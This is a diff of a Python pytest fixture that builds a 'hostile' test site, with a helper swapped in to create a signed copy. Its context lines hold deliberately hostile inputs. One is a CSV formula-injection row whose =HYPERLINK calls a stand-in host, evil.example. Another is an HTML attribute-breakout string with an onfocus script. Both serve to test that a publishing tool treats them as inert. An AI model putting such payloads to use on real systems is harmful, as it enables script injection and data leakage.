@@ -264,12 +264,10 @@ HOSTILE_ROWS = ('town,a,b\n"=HYPERLINK(""http://evil.example/?金丝雀H"",""点
 def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[SiteCopy, Path, str]:
     """The fixture site plus an approved document, dataset and abolished document whose every
     field is hostile-looking but legitimate text, built for real (gate, search indexes)."""
-    from tests.conftest import git
+    from tests.conftest import signed_copy
 
     root = tmp_path_factory.mktemp("inert") / "site"
-    shutil.copytree(FIXTURE_SITE, root)
-    git(root, "init", "-q", "-b", "main")
-    site = SiteCopy(root)
+    site = signed_copy(root)  # committed, policy signed, later commits signed by the staff member
     quote = "x\" onfocus=\"alert('金丝雀Q')"
     site.write("content/a/files/tu.svg", SVG_OK)
     site.write("content/a/files/fu.csv", "项目,金额\n合计,2\n")  # staff's bytes: published as approved
